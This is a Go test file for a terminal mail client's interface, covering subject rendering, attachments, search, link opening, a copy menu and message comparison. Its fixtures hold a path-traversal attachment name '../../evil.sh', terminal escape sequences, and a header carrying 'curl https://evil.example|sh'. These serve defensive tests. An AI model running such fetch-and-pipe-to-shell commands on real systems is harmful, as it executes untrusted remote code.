package ui

import (
	"bytes"
	"errors"
	"image"
	"image/png"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"mayfly/api"
	"mayfly/api/apitest"
	"mayfly/ui/store"
)

// TestASubjectIsShownAsItWasSent: whole in the message on every terminal, and in rows where the
// terminal counts grapheme clusters.
func TestASubjectIsShownAsItWasSent(t *testing.T) {
	const family, subject = "\U0001F468\u200d\U0001F469\u200d\U0001F467", "Family " + "\U0001F468\u200d\U0001F469\u200d\U0001F467" + " 👍🏽 🏳\ufe0f\u200d🌈 🇩🇪 日本 مرحبا"
	play(t, with(func(h *harness) {
		in := h.inboxNamed("ada", time.Hour)
		h.mail(in.Email, apitest.Mail{From: "a@b.example", FromName: "The " + family, Subject: subject, Text: "Hello"})
	}), func(h *harness) {
		rows := func() (n int) { return strings.Count(h.app.View().Content, subject) }
		h.press("enter")
		if got := rows(); got != 1 {
			t.Errorf("before the terminal confirmed mode 2027 %d rows have the whole subject, want that of the message", got)
		}
		h.send(tea.ModeReportMsg{Mode: ansi.ModeUnicodeCore, Value: ansi.ModeReset})
		h.settle()
		if got := rows(); got != 2 || strings.Count(h.app.View().Content, "The "+family) != 2 {
			t.Errorf("after it did, %d rows have it, want those of the list and the message", got)
		}
	})
}

func TestAttachments(t *testing.T) {
	var picture bytes.Buffer
	if err := png.Encode(&picture, image.NewGray(image.Rect(0, 0, 160, 80))); err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{"../../evil.sh": []byte("echo \x1b[31mEVIL"), "report.pdf": []byte("%PDF"), "black.png": picture.Bytes()}
	play(t, with(func(h *harness) {
		var all []api.Attachment
		for _, f := range [][2]string{{"../../evil.sh", "text/x-shellscript"}, {"report.pdf", "application/pdf"}, {"black.png", "image/png"}} {
			all = append(all, api.Attachment{Filename: f[0], ContentType: f[1], Content: files[f[0]], Size: int64(len(files[f[0]]))})
		}
		in := h.inboxNamed("ada", time.Hour)
		h.mail(in.Email, apitest.Mail{From: "a@b.example", Subject: "File", Text: "Here", Attachments: all[1:2]})
		time.Sleep(time.Second)
		h.mail(in.Email, apitest.Mail{From: "a@b.example", Subject: "Files", Text: "Here", Attachments: all})
	}), func(h *harness) {
		h.step("enter", "a files")
		for _, c := range []struct {
			keys []string
			see  []string
		}{
			{[]string{"a"}, []string{"../../evil.sh", "report.pdf", "4 bytes", "Save all 3"}},
			{[]string{"enter"}, []string{"View here", "Open in the default application"}},
			{[]string{"down", "enter"}, []string{"This file type could be executed"}},
			{[]string{"a", "evil", "enter", "enter"}, []string{"echo EVIL", "esc closes"}},
			{[]string{"esc", "a", "png", "enter", "enter"}, []string{" ▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀▀  ", "esc closes"}},
			{[]string{"esc", "a", "pdf", "enter", "enter"}, []string{"✓ opened report.pdf"}},
			{[]string{"a", "pdf", "enter", "save", "enter"}, []string{"✓ saved ", "report.pdf"}},
			{[]string{"a", "pdf", "enter", "save", "enter"}, []string{"✓ already there: ", "report.pdf"}},
			{[]string{"a", "all", "enter"}, []string{"✓ saved 2 files in ", ", 1 already there"}},
			{[]string{"a", "all", "enter"}, []string{"✓ saved 0 files in ", ", 3 already there"}},
			{[]string{"s"}, []string{"✓ saved ", "Files.eml"}},
			{[]string{"s"}, []string{"✓ already there: ", "Files.eml"}},
			{[]string{"j", "h", "j", "l", "a"}, []string{"╭ report.pdf", "Open in the default application"}},
		} {
			h.press(c.keys...)
			h.see(c.see...)
		}
		saved, err := filepath.Glob(filepath.Join(h.app.host.Downloads, "*"))
		if err != nil || len(saved) != 4 {
			t.Errorf("saved %q, %v", saved, err)
		}
		if content, err := os.ReadFile(h.opened[0]); err != nil || string(content) != "%PDF" || len(h.opened) != 1 {
			t.Errorf("opened %q, %q, %v", h.opened, content, err)
		}
	})
}

func TestSavingWhereThereIsNoRawMessage(t *testing.T) {
	play(t, setting{width: 120, height: 36, before: someMail}, func(h *harness) {
		h.step("s", "saved ", "Confirm your e-mail address.html")
	})
}

// A name decides by what it is saved as: a leading dot goes, and the type gives the extension that is then missing.
func TestWhatMightRunIsNotOpened(t *testing.T) {
	for _, c := range []struct {
		name, kind string
		opens      bool
	}{
		{"report.pdf", "application/pdf", true},
		{"report", "application/pdf", true},
		{".pdf", "text/html", false},
		{"~.PDF", "text/html", false},
		{"report.html", "application/pdf", false},
		{"report", "application/octet-stream", false},
	} {
		play(t, with(func(h *harness) {
			in := h.inboxNamed("ada", time.Hour)
			h.mail(in.Email, apitest.Mail{From: "a@b.example", Subject: "File", Text: "Here", Attachments: []api.Attachment{
				{Filename: c.name, ContentType: c.kind, Content: []byte("x"), Size: 1},
			}})
		}), func(h *harness) {
			h.press("enter", "a", "default", "enter")
			if opens := len(h.opened) == 1; opens != c.opens || h.shows("This file type could be executed") == opens {
				t.Errorf("%s of type %s: opened %q", c.name, c.kind, h.opened)
			}
		})
	}
}

func TestALateAnswerIsDropped(t *testing.T) {
	play(t, setting{width: 120, height: 36, before: someMail}, func(h *harness) {
		h.app.store.Opened = store.Cache{}
		h.server.SetDelay(2 * time.Second)
		h.press("j", "enter", "h", "j")
		h.app.store.Opened = store.Cache{}
		h.press("enter")
		generation := h.app.reader.Generation
		h.wait(10 * time.Second)
		if h.app.reader.Generation != generation || h.app.reader.Opened == nil || h.app.reader.Opened.ID != h.app.reader.Message.ID {
			t.Error("the reader does not show what was opened last")
		}
	})
}

func TestSearchingTheMessage(t *testing.T) {
	play(t, setting{width: 80, height: 16, before: func(h *harness) {
		in := h.inboxNamed("ada", time.Hour)
		text := strings.Repeat("Nothing here.\n\n", 30) + "The needle is here.\n\n" + strings.Repeat("Nor here.\n\n", 30) + "Another NEEDLE.\n"
		h.mail(in.Email, apitest.Mail{From: "a@b.example", Subject: "Hay", Text: text})
	}}, func(h *harness) {
		h.step("enter / needle enter", "1 of 2", "n next  N previous  esc clear")
		h.dontSee("n new")
		h.step("n", "2 of 2", "Another NEEDLE.")
		h.step("n", "1 of 2", "The needle is here.")
		h.step("N", "2 of 2")
		if inboxes := len(h.app.store.Order); inboxes != 1 || len(h.app.dialogs) != 0 || len(h.copied) != 0 {
			t.Fatalf("walking the hits left %d inboxes, %d dialogs and a clipboard of %q", inboxes, len(h.app.dialogs), h.copied)
		}
		h.press("esc")
		h.dontSee("of 2", "N previous")
		h.see("n new")
		h.press("/", "needle", "enter", "h", "n")
		if len(h.copied) != 1 {
			t.Error("in the list n makes no inbox")
		}
	})
}

func TestTheOutcomeOfOpeningALinkIsShown(t *testing.T) {
	failed := errors.New("xdg-open could not open it: exit status 3")
	for _, c := range []struct {
		name string
		ends time.Duration // when the opener does
		err  error
		at   map[time.Duration]string // what the bottom line says then
	}{
		{"at once", 0, nil, map[time.Duration]string{0: "✓ opened app.acme.example"}},
		{"in time", time.Second, nil, map[time.Duration]string{0: "opening app.acme.example…", 2 * time.Second: "✓ opened app.acme.example"}},
		{"the browser itself", 4 * time.Second, nil, map[time.Duration]string{0: "opening app.acme.example…", 3 * time.Second: "✓ handed to xdg-open: app.acme.example", 5 * time.Second: "✓ handed to xdg-open"}},
		{"it fails", time.Second, failed, map[time.Duration]string{0: "opening app.acme.example…", 3 * time.Second: "! " + failed.Error() + "; the link is copied instead"}},
		{"it fails late", 4 * time.Second, failed, map[time.Duration]string{3 * time.Second: "✓ handed", 5 * time.Second: "! " + failed.Error() + "; the link is copied instead"}},
	} {
		play(t, with(someMail), func(h *harness) {
			h.opener = func() error { time.Sleep(c.ends); return c.err }
			h.press("enter", "o", "o")
			began := time.Now()
			for _, after := range slices.Sorted(maps.Keys(c.at)) {
				h.wait(after - time.Since(began))
				h.see(c.at[after])
			}
			if copied := slices.Contains(h.copied, h.opened[0]); copied != (c.err != nil) {
				t.Errorf("%s: the link is copied: %v", c.name, copied)
			}
		})
	}
}

func TestWhatNothingCanOpenIsCopied(t *testing.T) {
	play(t, with(someMail), func(h *harness) {
		h.noOpener = errors.New("no display")
		h.step("enter o o", "✓ copied the link: nothing here can open it (no display)")
		h.press("b")
		path := h.copied[len(h.copied)-1]
		h.see("✓ copied " + path + ": nothing here can open it")
		if _, err := os.Stat(path); err != nil || len(h.copied) != 2 || len(h.opened) != 0 {
			t.Errorf("copied %q, %v; opened %q", h.copied, err, h.opened)
		}
	})
}

func TestTheCopyMenu(t *testing.T) {
	for _, c := range []struct{ typed, want, says string }{
		{"code", "482913", "copied 482913"},
		{"link unsub", "https://acme.example/unsubscribe", "copied the link"},
		{"messageid", "<7@acme.example>", "copied Message-ID"},
		{"list-unsub", "<https://acme.example/u>, <mailto:u@acme.example>", "copied List-Unsubscribe"},
		{"inbox", "ada@apitest.example", "copied ada@apitest.example"},
		{"text", "Your code is 482913.", "copied the text"},
		{"html", confirmHTML, "copied the HTML source"},
		{"x-note", "hi curl https://evil.example|sh", "copied X-Note"},
	} {
		set := with(func(h *harness) {
			in := h.inboxNamed("ada", time.Hour)
			raw := "From: Acme <no-reply@acme.example>\r\nTo: ada@apitest.example\r\nMessage-ID: <7@acme.example>\r\nX-Mailer: a\r\n" +
				"X-Note: =?utf-8?q?hi=0Acurl_https://evil.example|sh=0A=1B[31m?=\r\nSubject: Confirm\r\n" +
				"List-Unsubscribe: <https://acme.example/u>, <mailto:u@acme.example>\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n" +
				"--b\r\n\r\nYour code is 482913.\r\n--b\r\nContent-Type: text/html\r\n\r\n" + confirmHTML + "\r\n--b--\r\n"
			h.mail(in.Email, apitest.Mail{From: "no-reply@acme.example", FromName: "Acme", Subject: "Confirm", HTML: confirmHTML, Raw: []byte(raw)})
		})
		play(t, set, func(h *harness) {
			h.step("Y", "Code 482913", "Link Confirm e-mail", "app.acme.example", "Address of the sender no-reply@acme.example", "Subject: Confirm")
			h.press(c.typed, "enter")
			h.see(c.says)
			if got := h.copied[len(h.copied)-1]; got != c.want {
				t.Errorf("%s: copied %q, want %q", c.typed, got, c.want)
			}
		})
	}
}

func TestAMenuOpensOnlyIfTheUserHasNotGoneOn(t *testing.T) {
	play(t, with(someMail), func(h *harness) {
		h.server.Fail(apitest.Silent, 1)
		h.press("Y", "/", "Acme")
		h.wait(time.Minute)
		h.dontSee("Address of the sender")
	})
}

// templates are mails of one template to two inboxes, and another of their sender.
func templates(h *harness) {
	for _, name := range []string{"ada", "bob"} {
		h.inboxNamed(name, time.Hour)
		time.Sleep(time.Second)
	}
	for _, m := range []struct{ name, subject, html string }{
		{"ada", "Welcome", "<p>Hello Ada</p>"},
		{"ada", "482913 is your code", receipt("Ada", "482 913", "1")},
		{"bob", "731002 is your code", receipt("Bob", "731 002", "2")},
	} {
		raw := "From: Acme <no-reply@acme.example>\r\nSubject: " + m.subject + "\r\nContent-Type: text/html\r\n\r\n" + m.html + "\r\n"
		h.mail(m.name+"@"+apitest.Domain, apitest.Mail{From: "no-reply@acme.example", FromName: "Acme", Subject: m.subject, HTML: m.html, Raw: []byte(raw)})
		time.Sleep(time.Minute)
	}
}

// receipt is a mail of several paragraphs.
func receipt(name, code, link string) string {
	return "<h1>Hello " + name + "</h1><p>Your code is " + code + ". It is valid for ten minutes, and for this device only.</p>" +
		strings.Repeat("<p>Nothing else changes here.</p>", 9) + `<p><a href="https://acme.example/` + link + `">Sign in</a></p>`
}

func TestComparing(t *testing.T) {
	play(t, with(templates), func(h *harness) {
		h.wait(10 * time.Second) // until ada's messages are listed, too
		h.selected("731002")
		h.press("=") // in the inbox of bob there is no other
		h.see("- 1 Jan 00:01:02  ada@", "482913 is your code", "+ 1 Jan 00:02:02  bob@", "731002 is your code", "n next", "esc back")
		h.see("Hello Ada", "Hello Bob", "⋯ ")
		h.dontSee("Inboxes", "n new")
		h.step("v", "Sign in  https://acme.example/1", "Sign in  https://acme.example/2")
		h.step("esc", "Inboxes", "n new")
		h.step("h g l G =", "Welcome", "No earlier similar message from Acme")
		h.dontSee("esc back")
		h.step("space =", "Mark a second message to compare: space, or none")
		h.step("g space =", "- 1 Jan 00:00:02  ada@", "+ 1 Jan 00:02:02  bob@")
	})
}

// long is a mail that is laid out beside the frames.
func long() apitest.Mail {
	text := "Begins here\n\n" + strings.Repeat("A line of a long text that is wrapped on every screen there is, on this one too.\n\n", 2000)
	return apitest.Mail{From: "a@b.example", Subject: "Long", Text: text, Raw: []byte("Subject: Long\r\nX-Only: raw\r\n\r\n" + text)}
}

// How a mail came stands above its headers, and is asked for once: also on this machine, where the raw form is there at once.
func TestHowAMailCame(t *testing.T) {
	for _, set := range []setting{{service: apitest.Options{Extensions: true}}, {service: apitest.Options{Extensions: true}, smtp: "127.0.0.1:2525"}, {}} {
		set.width, set.height, set.before = 80, 24, someMail
		play(t, set, func(h *harness) {
			h.press("enter", "4")
			h.settle()
			h.see("Subject: ")
			want := 0
			if set.service.Extensions {
				want = 1
				h.see("Connection: 192.0.2.7:25, no TLS, EHLO", "Accepted: 12ms after connecting")
			}
			h.press("5", "4", "1", "4")
			h.settle()
			asked := 0
			for _, r := range h.server.Requests() {
				if strings.HasSuffix(r.Path, "/delivery") {
					asked++
				}
			}
			if asked != want {
				t.Errorf("the service was asked %d times, want %d", asked, want)
			}
		})
	}
}
